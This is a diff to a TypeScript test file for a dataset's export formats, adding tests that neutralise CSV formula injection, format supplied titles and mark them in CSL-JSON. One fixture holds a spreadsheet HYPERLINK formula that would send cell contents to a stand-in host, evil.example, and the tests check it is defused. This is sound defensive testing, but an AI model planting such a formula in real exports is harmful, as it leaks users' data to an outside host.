@@ -1,10 +1,13 @@
-/** The exports' pure parts: dates as spans and typed literals, quoting, escaping, the content hash and the parameter checks. */
+/** The exports' pure parts: dates as spans and typed literals, quoting (and CSV's formula neutralising), escaping, supplied titles, the content hash and the parameter checks. */
 import { Writable } from 'node:stream';
 import { buildSchema } from 'graphql';
 import { loadTypeDefs } from '../../src/app/schema';
 import { InvalidArgumentError } from '../../src/core/errors';
 import { bibKey, latexText } from '../../src/features/export/formats/bibtex';
-import { csvRecord } from '../../src/features/export/formats/csv';
+import { parse as parseCsv } from 'csv-parse/sync';
+import { csvRecord, safeCellText } from '../../src/features/export/formats/csv';
+import { cslItem } from '../../src/features/export/formats/csl-json';
+import { suppliedTitle } from '../../src/core/model/supplied-title';
 import { firstDay, lastDay } from '../../src/features/export/formats/gexf';
 import { dateLiteral } from '../../src/features/export/formats/jsonld';
 import { dateParts, sourceDate } from '../../src/features/export/formats/source-dates';
@@ -40,9 +43,9 @@ describe('dates keep their precision', () => {
 });
 
 describe('quoting and escaping', () => {
-  test('CSV quotes a field only when it must (RFC 4180), doubles its quotes, ends the record with CRLF', () => {
+  test('CSV quotes every field (RFC 4180 quoting: quotes doubled), ends the record with CRLF', () => {
     expect(csvRecord(['plain', 'a,b', 'say "hi"', 'two\nlines', null, 3, false])).toBe(
-      'plain,"a,b","say ""hi""","two\nlines",,3,false\r\n',
+      '"plain","a,b","say ""hi""","two\nlines","","3","false"\r\n',
     );
   });
 
@@ -56,6 +59,60 @@ describe('quoting and escaping', () => {
   test('XML escapes markup and drops characters XML cannot carry', () => {
     expect(xmlText('a<b & "c" \u0001\u0008d')).toBe('a&lt;b &amp; &quot;c&quot; d');
     expect(xmlComment('x -- y')).toBe('<!-- x - - y -->');
+  });
+});
+
+describe('CSV against formula injection (OWASP)', () => {
+  const formula = 'HYPERLINK("https://evil.example/?leak="&A1,"Click")';
+
+  test.each([
+    ['=', 'equals'],
+    ['+', 'plus'],
+    ['-', 'minus'],
+    ['@', 'at'],
+    ['\t', 'tab'],
+    ['\r', 'carriage return'],
+  ])('a text starting with %j (%s) gets a leading single quote, and a CSV parser reads it back as that text', (lead) => {
+    const record = csvRecord(['agency:x', `${lead}${formula}`, `${lead}1+1`]);
+    expect(parseCsv(record) as string[][]).toEqual([['agency:x', `'${lead}${formula}`, `'${lead}1+1`]]);
+    expect(safeCellText(`${lead}x`)).toBe(`'${lead}x`);
+  });
+
+  test('only the first character counts; numbers stay numbers; a separator inside a value never starts a cell', () => {
+    expect(safeCellText('MoU =signed')).toBe('MoU =signed');
+    expect(safeCellText(-3)).toBe('-3');
+    expect(safeCellText("'quoted")).toBe("'quoted");
+    expect(parseCsv(csvRecord(['a,=1+2;@SUM(A1)', '\n=2'])) as string[][]).toEqual([['a,=1+2;@SUM(A1)', '\n=2']]);
+  });
+});
+
+describe('supplied titles', () => {
+  test('built from the publisher and the date at its precision, in square brackets', () => {
+    expect(suppliedTitle('AzerNews', '2024-04-19')).toBe('[AzerNews, 19 April 2024]');
+    expect(suppliedTitle('Metbuat.az', '2019-11')).toBe('[Metbuat.az, November 2019]');
+    expect(suppliedTitle('Trend', '2019')).toBe('[Trend, 2019]');
+    expect(suppliedTitle('Trend', '2021-02-24T16:58:00+04:00')).toBe('[Trend, 24 February 2021]');
+    expect(suppliedTitle('AzerNews (by Trend)', null)).toBe('[AzerNews (by Trend), undated]');
+  });
+
+  test("CSL-JSON keeps the bracketed title and its note says it is supplied; a source's own title is not marked", () => {
+    const source = {
+      id: 'source:x',
+      title: '[AzerNews, 19 April 2024]',
+      titleSupplied: true,
+      publisher: 'AzerNews',
+      published: '2024-04-19',
+      retrieved: null,
+      language: 'en',
+      url: null,
+      text: null,
+      translations: [],
+    };
+    expect(cslItem(source, 'v1')).toMatchObject({
+      title: '[AzerNews, 19 April 2024]',
+      note: 'title supplied (headline not known); coopgraph dataset version v1',
+    });
+    expect(cslItem({ ...source, title: 'Ethiopia opens MESOB', titleSupplied: false }, 'v1').note).toBe('coopgraph dataset version v1');
   });
 });
 
